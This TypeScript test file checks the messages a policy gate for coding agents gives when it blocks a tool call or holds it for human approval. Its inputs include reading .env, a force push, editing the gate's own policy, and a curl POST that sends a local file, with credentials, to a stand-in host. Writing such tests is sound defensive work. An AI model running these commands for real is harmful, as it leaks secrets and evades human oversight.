import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CodedError } from '@gait/canon';
import { HOOK_ROWS, readHookMessage } from '@gait/harness';
import { contextForTest, runInProcess } from '../testing.ts';
import { answerHook } from './answer-hook.ts';
import { describeFault } from './describe-ruling.ts';

let root = '';
let repo = '';
let world: { cwd: string; home: string; env: Record<string, string> };
beforeEach(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'gait-ruling-')));
  repo = join(root, 'repo');
  mkdirSync(join(repo, '.git'), { recursive: true });
  world = { cwd: repo, home: join(root, 'home'), env: { USER: 'bob', GAIT_APPROVAL_WAIT: '0s' } };
  mkdirSync(world.home);
  await runInProcess(['init', '--template', 'coding-agent', '--approver', 'alice'], world);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const trust = () => runInProcess(['trust', '.gait.yaml'], world);

let calls = 0;
/** What the model is told. */
async function told(tool: string, input: object): Promise<string> {
  const { context } = contextForTest([], {
    ...world,
    now: () => BigInt(Date.now()) * 1_000_000n,
  });
  const read = readHookMessage('claude', {
    session_id: 's1',
    cwd: repo,
    hook_event_name: 'PreToolUse',
    permission_mode: 'default',
    tool_name: tool,
    tool_input: input,
    tool_use_id: `call_${(calls += 1)}`,
  });
  if (!read.ok) throw new Error(read.detail);
  const clock = { started: performance.now(), isLate: () => false };
  const { stderr } = await answerHook(context, HOOK_ROWS.claude, read.message, clock);
  return stderr.trim();
}

describe('what is told of a call that does not run', () => {
  test('names the file that is private, and only the code that held it', async () => {
    await trust();
    const reason = await told('Read', { file_path: join(repo, '.env') });
    expect(reason).toBe(
      `gait blocked this call: it would read ${repo}/.env, which is private (private_path)`,
    );
  });

  test('names the file that is guarded, and the way to a person', async () => {
    await trust();
    const reason = await told('Write', { file_path: join(repo, '.github/ci.yml'), content: 'x' });
    expect(reason).toMatch(
      /^gait: this call needs a person's approval: it would write .*\/\.github\/ci\.yml, which is guarded \(guarded_path\)\. Ask the person .*gait approvals show [0-9a-f]{12}/u,
    );
    expect(reason).not.toContain('..');
    expect(reason).not.toContain('edit_allowed');
  });

  test.each([
    [
      'ls && frobnicate --all',
      'it would run frobnicate, of which the gate cannot tell what it does',
    ],
    ['cat a; "$X" b', 'it would run a program that is known only when it runs'],
    ['kubectl apply -f k8s', 'it would run "apply" on kubernetes'],
    [
      'curl https://nobody.example/x',
      'it would ask https://nobody.example/x, a server that the policy does not name',
    ],
    ['git push --force origin main', 'origin for good'],
  ])('names what of %j is in the way', async (command, words) => {
    await trust();
    const reason = await told('Bash', { command });
    expect(reason).toContain(words);
    expect(reason).not.toMatch(/\w+_allowed|approval_token_missing/u);
  });

  test('names what the gate stands on, and says that only a person changes it', async () => {
    await trust();
    const reason = await told('Edit', {
      file_path: join(repo, '.gait.yaml'),
      old_string: 'a',
      new_string: 'b',
    });
    expect(reason).toContain('.gait.yaml, which the gate stands on (self_protection_policy)');
    expect(reason).toContain('Only a person can change that');
  });

  test('says when it is the policy that nobody trusted, and nothing of the file', async () => {
    const reason = await told('Read', { file_path: join(repo, 'a.ts') });
    expect(reason).toContain(
      'gait blocked this call: no person trusted the policy of this project yet (policy_untrusted)',
    );
    expect(reason).not.toContain('a.ts');
    await trust();
    writeFileSync(join(repo, '.gait.yaml'), 'default_verdict: allow\n');
    expect(await told('Read', { file_path: 'a' })).toContain('(policy_changed)');
  });

  test('holds no secret', async () => {
    await trust();
    const reason = await told('Bash', {
      command: 'curl -X POST https://u:hunter2secret@nobody.example/?token=abc123456 -d @a',
    });
    expect(reason).toContain('https://u:***@nobody.example/');
    expect(reason).not.toMatch(/hunter2secret|abc123456/u);
  });

  test('says what is wrong with a wait that is no duration', async () => {
    await trust();
    world.env['GAIT_APPROVAL_WAIT'] = 'banana';
    const reason = await told('Read', { file_path: join(repo, '.env') });
    expect(reason).toContain('(approval_wait_invalid)');
  });
});

test('what is told of a call that could not be decided is for a person to repair', () => {
  const error = new CodedError('file_missing', 'no file .gait.yaml', {
    hint: 'check the path; relative paths start at the current folder',
  });
  expect(describeFault(error)).toBe(
    'gait cannot decide this call: no file .gait.yaml (file_missing). A person can repair that; ask them to run "gait check" in a terminal of their own',
  );
  expect(describeFault(new TypeError('x'))).toContain('(internal_failure)');
});
